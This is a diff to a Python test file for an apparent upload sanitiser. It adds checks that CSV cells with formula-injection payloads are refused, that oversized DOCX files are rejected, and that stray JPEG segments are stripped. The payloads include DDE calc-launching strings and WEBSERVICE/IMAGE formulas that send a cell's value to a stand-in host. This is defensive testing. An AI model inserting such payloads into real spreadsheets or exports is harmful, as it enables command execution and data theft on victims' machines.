@@ -6,9 +6,9 @@ import gzip
 
 import pytest
 
-from hub.documents.attachments import archives
+from hub.documents.attachments import archives, office
 from hub.publishing import unpacking
-from tests.helpers.attached import docx, film
+from tests.helpers.attached import docx, film, photo
 from tests.helpers.planted import CANARY, cleaned, refused
 
 
@@ -31,6 +31,11 @@ def test_nothing_stands_in_the_gaps_of_a_film() -> None:
 def test_a_table_starts_no_program() -> None:
     for cell in ("=cmd|'/c calc'!A0", "+cmd|'/c calc'!A0", "\"=cmd|'/c calc'!A0\""):
         assert "start another program" in refused("a.csv", f"a,{cell},b\n".encode())
+    for cell in (
+        "@SUM(1+1)*cmd|' /C calc'!A0", "=2+5+cmd|'/c calc'!A0", "='cmd'|'/c calc'!A0",
+        "=cmd|'/c calc'!#REF!", '=WEBSERVICE("https://e/"&A1)', '"=IMAGE(""https://e/""&A1)"',
+    ):  # fmt: skip
+        assert "start another program, or fetch" in refused("a.csv", f"a,{cell},b\n".encode())
     for fine in ("-5,+44 1952,@school,a|b!\n", "=SUM(A1:A2),- Bring | and go!\n"):
         assert cleaned("a.csv", fine.encode()) == fine.encode()
 
@@ -43,6 +48,18 @@ def lying() -> bytes:
 
 
 TYPED = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>'.encode("utf-16")
+
+
+def test_a_file_of_nothing_but_tags_is_told_so() -> None:
+    many = docx(parts={"word/document.xml": "<a/>" * (office.MAX_TAGS + 1)})
+    assert "6,000,000 tags" in refused("a.docx", many)
+
+
+def test_a_segment_that_is_no_table_is_left_out_of_a_photograph() -> None:
+    plain = photo(orientation=1)
+    for marker in (0xC8, 0xD0, 0xD8, 0xDC):
+        more = bytes((0xFF, marker, 0, len(CANARY) + 2)) + CANARY.encode()
+        assert cleaned("a.jpg", plain[:2] + more + plain[2:]) == cleaned("a.jpg", plain)
 
 
 NEVER_ENDING = {
